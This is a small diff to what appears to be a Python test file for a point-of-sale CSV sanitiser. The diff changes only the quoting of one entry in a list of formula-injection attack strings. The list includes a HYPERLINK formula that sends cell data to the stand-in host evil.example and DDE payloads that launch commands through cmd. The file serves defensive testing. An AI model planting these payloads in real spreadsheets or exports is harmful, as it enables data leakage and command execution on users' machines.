@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from pos.domain.csv_safe import FORMULA_STARTS, safe_cell, safe_row, unquote_cell
 
 ATTACKS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
